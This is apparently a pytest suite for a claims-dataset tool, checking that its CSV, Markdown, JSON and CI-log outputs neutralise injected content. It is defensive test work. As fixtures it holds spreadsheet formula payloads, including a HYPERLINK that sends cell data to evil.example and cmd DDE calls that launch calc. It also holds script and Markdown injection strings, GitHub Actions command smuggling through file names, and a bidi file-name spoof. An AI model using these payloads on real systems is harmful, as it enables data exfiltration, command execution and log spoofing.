"""Outputs carry no live syntax: what the data says is shown as text, never run as a formula, Markdown or a command."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest

from claimset.export import TABLES

FORMULAS = {
    "english": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "actor": "+cmd|' /C calc'!A0",
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "'quoted from the start",
    "seed": "-2+3+cmd|' /C calc'!A0",
}


def _edit(root: Path, rel: str, old: str, new: str) -> None:
    path = root / rel
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.fixture
def formulas(mini, add_document) -> Path:
    """The mini checkout with a text that a spreadsheet would run in every kind of CSV cell."""
    _edit(mini, "claims/doc-a.yaml", "english: about 5,000 builders arrived in September",
          f"english: {json.dumps(FORMULAS['english'])}")
    _edit(mini, "claims/doc-a.yaml", "    what: builders\n", f"    what: builders\n    note: {json.dumps(FORMULAS['note'])}\n")
    _edit(mini, "claims/actors/agency.yaml", "en: The agency}", f"en: {json.dumps(FORMULAS['actor'])}}}")
    (mini / "claims" / "retired.yaml").write_text(
        f"retired:\n- id: a-old\n  reason: {json.dumps(FORMULAS['reason'])}\n  replaced_by: [a-talks]\n"
        "  retired_in: 0.1.0\n", encoding="utf-8")
    add_document(mini, "doc-c", f"{FORMULAS['seed']}\n")
    return mini


def test_no_csv_cell_starts_a_formula_and_every_reader_gets_the_exact_text(formulas, run, tmp_path, repo, monkeypatch):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    import claimset

    release = tmp_path / "release"
    result = run("build", "--root", str(formulas), "--out", str(release), "--parquet")
    assert result.exit_code == 0, result.output
    escaped = set()
    for table in TABLES:
        rows = list(csv.reader(io.StringIO((release / table.path).read_text(encoding="utf-8"), newline="")))
        for row in rows[1:]:
            for column, cell in zip(table.columns, row, strict=True):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table.name, column.name, cell)
                if column.type == "string" and cell.startswith("'"):
                    escaped.add(cell[1:])
    assert set(FORMULAS.values()) <= escaped  # each is in a CSV, behind its apostrophe

    # The README's recipe gives the exact text back, as load() and the typed formats hold it.
    block = next(b for b in re.findall(r"^```python\n(.*?)^```", (repo / "README.md").read_text(encoding="utf-8"),
                                       re.S | re.M) if "def read_csv(table)" in b)
    monkeypatch.chdir(release)
    recipe: dict = {}
    exec(block, recipe)
    data = claimset.load(release)
    for table in TABLES:
        frame, ours = recipe["read_csv"](table.name), data.to_pandas(table.name)
        parquet = pd.read_parquet(release / table.parquet_path)
        lists = {c.name for c in table.columns if c.is_list}
        for column in (c.name for c in table.columns if c.type == "string"):
            want = [None if pd.isna(v) else v for v in ours[column]]
            assert [None if pd.isna(v) else v for v in frame[column]] == want, (table.name, column)
            # Parquet holds a list as a list, which to_pandas and the CSV give `;`-joined
            got = [";".join(v) or None for v in parquet[column]] if column in lists else list(parquet[column])
            assert [None if v is None or (not isinstance(v, str) and pd.isna(v)) else v for v in got] == want, (table.name, column)
    whole = (release / "claims.json").read_text(encoding="utf-8")
    database = sqlite3.connect(release / "claims.db")
    for text in FORMULAS.values():
        assert json.dumps(text, ensure_ascii=False)[1:-1] in whole
    assert database.execute("SELECT english FROM claims WHERE id = 'a-builders'").fetchone() == (FORMULAS["english"],)
    assert database.execute("SELECT reason FROM retired").fetchone() == (FORMULAS["reason"],)

    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(release / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]


HOSTILE = "# Heading [x](http://e) ![i](http://e/i.png) @someone <script>alert(1)</script> www.e.com"


def test_release_notes_show_the_data_as_text_not_markdown(mini, run, tmp_path):
    markdown_it = pytest.importorskip("markdown_it")
    old = tmp_path / "old"
    shutil.copytree(mini, old)
    (mini / "claims" / "retired.yaml").write_text(
        f"retired:\n- id: a-old\n  reason: {json.dumps(HOSTILE)}\n  retired_in: 0.1.0\n", encoding="utf-8")
    name = json.dumps("x\n" + HOSTILE)
    (mini / "claims" / "actors" / "nobody.yaml").write_text(
        f"id: nobody\nkind: person\nname: {{ru: null, en: {name}}}\n", encoding="utf-8")
    _edit(mini, "claims/doc-a.yaml", "english: about 5,000 builders arrived in September",
          "english: " + json.dumps("``` ` @someone\n# Heading"))
    assert run("validate", "--root", str(mini)).exit_code == 0, run("validate", "--root", str(mini)).output
    result = run("diff", str(old), str(mini), "--format", "markdown")
    assert result.exit_code == 0, result.output
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(result.output)
    # No @mention: a zero-width joiner follows each @, but in a code span, where GitHub links none.
    assert "@someone" not in re.sub(r"<code>.*?</code>", "", html)
    assert "<script" not in html and "<img" not in html and "<a " not in html, html
    assert [line for line in html.splitlines() if line.startswith("<h")] == [
        # Neither side is in a git work tree, so neither has a version to tell.
        "<h2>Changes from 0+unknown to 0+unknown</h2>", "<h3>Changed claims</h3>", "<h3>Added actors</h3>",
        "<h3>Added retirements</h3>"]
    assert "# Heading [x](http://e) ![i](http://e/i.png) @\u200dsomeone &lt;script&gt;" in html  # shown as written
    assert "<code>``` ` @someone\\n# Heading</code>" in html or "``` ` @someone\\n# Heading" in html
    text = run("diff", str(old), str(mini)).output
    assert not any(line.startswith("#") for line in text.splitlines())  # one line per record in text too


INJECTED = "x\n::error::injected"


def _lines(result) -> list[str]:
    return (result.stdout + result.stderr).splitlines()


@pytest.mark.parametrize("fmt", ["text", "github", "json"])
def test_a_file_name_with_a_line_break_starts_no_line_of_its_own(mini, fmt):
    import subprocess
    import sys

    shutil.copy(mini / "claims" / "doc-b.yaml", mini / "claims" / f"{INJECTED}.yaml")
    result = subprocess.run([sys.executable, "-m", "claimset", "validate", "--root", str(mini), "--format", fmt],
                            capture_output=True, text=True)
    assert result.returncode == 1, result.stderr
    lines = _lines(result)
    assert lines and not [line for line in lines if line.startswith("::") and not line.startswith("::error file=")]
    assert not [line for line in lines if "injected" in line and line.lstrip(' "').startswith(("::error::", "injected"))]
    if fmt == "text":
        assert "claims/x\\n::error::injected.yaml:2:7: document-id-mismatch:" in result.stdout
    if fmt == "github":
        assert f"::error file={mini.name}/claims/x%0A%3A%3Aerror%3A%3Ainjected.yaml," in result.stdout or \
            "x%0A%3A%3Aerror%3A%3Ainjected.yaml,line=2,col=7,title=document-id-mismatch::" in result.stdout
    if fmt == "json":
        assert {p["file"] for p in json.loads(result.stdout)} == {f"claims/{INJECTED}.yaml"}  # exact, JSON-escaped


@pytest.mark.parametrize("command", ["build", "site", "coverage", "fmt"])
def test_every_command_prints_a_file_name_on_one_line(mini, run, tmp_path, command):
    shutil.copy(mini / "claims" / "doc-b.yaml", mini / "claims" / f"{INJECTED}.yaml")
    extra = ["--out", str(tmp_path / "out")] if command in ("build", "site") else []
    result = run(command, "--root", str(mini), *extra)
    assert result.exit_code == 1
    assert not [line for line in result.output.splitlines() if line.startswith("::")], result.output
    assert "x\\n::error::injected" in result.output


def test_an_input_error_naming_a_path_is_one_line(run, tmp_path):
    result = run("diff", str(tmp_path / "a\n::stop-commands::token" / "claims.json"), str(tmp_path))
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "a\\n::stop-commands::token" in result.output, result.output


def test_bidirectional_formatting_in_a_file_name_is_shown_escaped(mini, run):
    # U+202E would make "x\u202egnp.yaml" print as "xlmay.png".
    name = "x\u202egnp.yaml"
    (mini / "claims" / name).write_text("document: {}\nclaims: []\n", encoding="utf-8")
    for fmt in ("text", "github"):
        result = run("validate", "--root", str(mini), "--format", fmt)
        assert result.exit_code == 1
        assert "\u202e" not in result.output and "\\u202e" in result.output, fmt
